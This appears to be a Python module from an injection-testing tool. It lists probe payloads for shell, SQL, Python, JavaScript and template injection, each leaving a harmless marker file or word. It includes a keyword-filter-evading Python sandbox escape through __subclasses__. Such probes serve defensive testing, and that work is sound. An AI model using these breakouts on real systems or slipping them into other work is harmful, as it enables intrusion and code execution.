"""Injection payloads: texts that an interpreter behind a tool executes if they are not escaped.

Each contains ``{mark}``, a random word by which its effect is recognised. Drivers append them to an ordinary value of
an argument, or replace it.
"""

from __future__ import annotations

__all__ = ["ARITHMETIC", "CODE", "FILE_CODE", "FILE_OPTIONS", "FORMATS", "OPTIONS", "SHELL", "SQL"]

#: Shell: end a word of the command line and create the file ``{mark}``, for each kind of quotes.
SHELL = (
    ";>{mark}",
    "$(>{mark})",
    "';>{mark};'",
    '";>{mark};"',
    "`>{mark}`",
    "|>{mark}",
    "||>{mark}||:",
    "&&>{mark}",
    "\n>{mark}\n",
    ">{mark}",
)

#: Options unknown to any program, alone and after another word.
OPTIONS = ("--{mark}", "-{mark}")

#: Options that make programs write their output to the file ``{mark}``.
FILE_OPTIONS = ("--output={mark}", "-o{mark}", "--output-document={mark}", "--out={mark}")

#: SQL: end a literal or a name, and leave ``{mark}`` outside as a bare word.
SQL = (
    "' {mark} '",
    '" {mark} "',
    " {mark}",
    # For a tool that checks a name and the direction behind it.
    " asc , {mark}",
    "') {mark} ('",
    "'{mark}'",
    # For a tool that doubles only the first quote.
    "'' {mark} '",
    "` {mark} `",
    "] {mark} [",
    ";{mark}",
)

#: Python that a calculator does not need: plain, out of quotes, inside a template.
CODE = (
    "().__class__.{mark}",
    "+().__class__.{mark}",
    " if ().__class__.{mark} else 0",
    "'+().__class__.{mark}+'",
    '"+().__class__.{mark}+"',
    "open('{mark}')",
    "+open('{mark}')",
    "{{().__class__.{mark}}}",
    "{{{{().__class__.{mark}}}}}",
    "${{().__class__.{mark}}}",
    "\n().__class__.{mark}",
)

#: Python and JavaScript that create the file ``{mark}``, plain and from inside quotes.
FILE_CODE = (
    "open('{mark}','w')",
    "+open('{mark}','w')",
    "' + str(open('{mark}','w')) + '",
    '" + str(open("{mark}","w")) + "',
    "__import__('builtins').open('{mark}','w')",
    "require('fs').writeFileSync('{mark}','')",
    "process.mainModule.require('fs').writeFileSync('{mark}','')",
    # Works without built-in functions; ends in os.open() with O_CREAT. The names are split, since tools refuse words.
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap''_close']"  # noqa: ISC004  # one text
    "[0].__init__.__globals__['op''en']('{mark}',65)",
)

#: Formats of str.format, the % operator and string.Template; plain text otherwise.
FORMATS = ("{{{mark}}}", "%({mark})s", "${mark}")

#: The product of ``{first}`` and ``{second}``, for template engines.
ARITHMETIC = (
    "{{{{{first}*{second}}}}}",
    "${{{first}*{second}}}",
    "{{{first}*{second}}}",
    "<%= {first}*{second} %>",
    "#{{{first}*{second}}}",
)
